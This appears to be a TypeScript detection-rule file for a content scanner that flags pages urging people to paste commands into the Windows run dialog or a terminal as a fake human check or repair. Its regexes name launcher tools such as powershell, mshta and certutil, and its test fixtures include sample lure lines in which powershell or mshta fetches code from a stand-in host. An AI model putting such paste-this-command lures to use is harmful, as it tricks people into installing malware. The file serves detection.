/** RC-06: a person is to paste a command into the run dialog or a terminal, as a check or a repair. */
import { lines, weighed } from '../../engine/example.ts';
import { pattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';

/** Commands that load or start something. */
const starts =
  /\b(?:powershell|pwsh|mshta|cmd(?:\.exe)?\s?\/c|curl|iwr|irm|wget|bitsadmin|msiexec|certutil|rundll32|regsvr32|osascript)\b|https?:\/\/|\\\\[\w.-]{3,60}\\/i;
const paste = [
  '(?:ctrl|strg|cmd|command|⌘)["\'`*]{0,4}\\s?\\+\\s?["\'`*]{0,4}v\\b|\\bpaste\\b|粘贴|貼上|貼り付け|붙여|вставь',
  'einfüg|füge\\b|p[eé]ga(?:lo|la|r)?\\b|col(?:e|ar)\\b|coll(?:ez|er)\\b',
].join('|');
const spoken = ['prose', 'list', 'quote', 'table', 'hidden', 'comment', 'description'] as const;

export const humanChecks: readonly Row[] = [
  row('a command is pasted into the run dialog', {
    in: spoken,
    within: 'block',
    match: pattern(
      raw(
        String.raw`(?:\b(?:press|hit|hold|open)\s{1,3})?[\x60*]{0,4}(?:\bwin(?:dows)?(?:[ -]?(?:key|taste|键))?|⊞)["'\x60*]{0,4}\s{0,2}(?:\+|and|und|和)\s{0,2}["'\x60*]{0,4}r\b`,
      ),
      raw(String.raw`[\s\S]{0,300}?(?:${paste})`),
    ),
    and: [starts],
    severity: 'high',
    catches: [
      lines(
        '> Step 1: press `Win` + `R`',
        '> Step 2: paste with `Ctrl` + `V`',
        '> `powershell -w h -c "curl.exe https://check.invalid/v"`',
      ),
      '按 Win+R，粘贴 `mshta https://check.invalid/v` 并回车。',
    ],
    spares: ['Press `Win` + `R`, type `shell:startup` and paste the shortcut into the folder.'],
  }),
  row('a command pretends to be a check for humans', {
    alone: 'medium',
    in: [...spoken, 'fence', 'decoded'],
    within: 'line',
    match: pattern(
      raw(
        String.raw`\b(?:curl|powershell|pwsh|bash -c|zsh -c|sh -c|mshta|iwr|irm|cmd \/c)\b[^\n]{0,240}[ \t]#[^\n]{0,40}`,
      ),
      raw(String.raw`\b(?:human|robot|captcha|cloudflare|verif(?:y|ication|ied))\b`),
    ),
    severity: 'critical',
    catches: [weighed('critical', 'Paste `mshta https://check.invalid/v # I am not a robot - check 12`.')],
    spares: [
      'Run `curl -I https://acme.example # verifies that the page answers`.',
      'If `powershell` does not find it, add it to the path as in [Check](/docs/install#verify-your-path).',
    ],
  }),
];
